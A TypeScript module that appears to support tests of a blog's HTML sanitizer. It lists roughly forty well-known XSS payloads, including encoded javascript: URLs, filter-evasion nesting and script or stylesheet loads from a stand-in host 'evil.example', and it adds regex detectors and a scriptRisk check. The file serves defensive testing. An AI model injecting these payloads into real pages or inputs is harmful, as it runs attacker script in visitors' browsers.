/** Well-known XSS vectors (OWASP filter evasion cheat sheet and friends), for the blog's HTML. */
export const XSS_VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href=" &#14;  javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width: expression(alert(1))">x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example"><input name=x><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<p onclick="alert(1)" onmouseover="alert(1)">hover</p>',
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '"><script>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="javascript:alert(1)//">',
  '<img src="x" alt="`"><img src=x onerror=alert(1)>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<template><script>alert(1)</script></template>',
  '<a href="//evil.example">protocol relative</a>',
];

const DANGEROUS_TAGS =
  /<\s*(script|iframe|object|embed|svg|math|style|link|meta|form|input|button|base|body|details|video|source|template|noscript)\b/i;
const EVENT_ATTRIBUTE = /<[^>]*\son[a-z]+\s*=/i;
const SCRIPT_URL = /\b(href|src|action|data|srcdoc)\s*=\s*["']?\s*(javascript|vbscript|data):/i;
const STYLE_ATTRIBUTE = /<[^>]*\sstyle\s*=/i;
const PROTOCOL_RELATIVE = /\b(href|src)\s*=\s*["']?\/\//i;

/**
 * Why a piece of HTML could run script, or null when it cannot. Text is escaped by the sanitizer
 * (a '<' in text becomes '&lt;'), so any '<name' left in its output is a real element.
 */
export function scriptRisk(html: string): string | null {
  for (const [name, pattern] of Object.entries({ DANGEROUS_TAGS, EVENT_ATTRIBUTE, SCRIPT_URL, STYLE_ATTRIBUTE, PROTOCOL_RELATIVE })) {
    const match = pattern.exec(html);
    if (match) return `${name}: ${match[0]}`;
  }
  return null;
}
